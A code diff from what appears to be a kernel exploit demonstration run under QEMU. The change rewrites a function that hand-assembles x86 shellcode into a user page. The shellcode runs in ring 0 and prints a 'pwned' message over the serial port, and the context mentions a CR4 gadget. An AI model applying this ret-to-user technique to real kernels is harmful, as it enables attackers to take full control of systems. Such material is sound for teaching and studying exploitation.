@@ -149,12 +149,18 @@ static uint64_t __attribute__((noinline)) gadget_mov_cr4(uint64_t rax) {
 
 static const char shellcode_text[] = "  [shellcode] pwned: user-page code running in ring 0\n";
 
-/* Writes the shellcode into the user page: for each character `mov al, c; out dx, al`, after
- * `mov dx, 0x3f8`; then `mov eax, 0x1337; ret`. It needs no data, so it runs with SMAP on. */
+/* Writes the shellcode into the user page: for each character, wait for COM1's LSR.THRE
+ * (`mov dx, 0x3fd; 1: in al, dx; test al, 0x20; jz 1b`; without it a busy transmitter drops
+ * bytes under QEMU), then `mov dx, 0x3f8; mov al, c; out dx, al`; then `mov eax, 0x1337; ret`.
+ * It needs no data, so it runs with SMAP on. */
 static void plant_shellcode(void) {
     uint8_t *p = user_page;
-    *p++ = 0x66, *p++ = 0xba, *p++ = 0xf8, *p++ = 0x03;
-    for (const char *c = shellcode_text; *c; c++) *p++ = 0xb0, *p++ = (uint8_t)*c, *p++ = 0xee;
+    for (const char *c = shellcode_text; *c; c++) {
+        *p++ = 0x66, *p++ = 0xba, *p++ = 0xfd, *p++ = 0x03;
+        *p++ = 0xec, *p++ = 0xa8, *p++ = 0x20, *p++ = 0x74, *p++ = 0xfb;
+        *p++ = 0x66, *p++ = 0xba, *p++ = 0xf8, *p++ = 0x03;
+        *p++ = 0xb0, *p++ = (uint8_t)*c, *p++ = 0xee;
+    }
     *p++ = 0xb8, *p++ = 0x37, *p++ = 0x13, *p++ = 0x00, *p++ = 0x00;
     *p++ = 0xc3;
 }
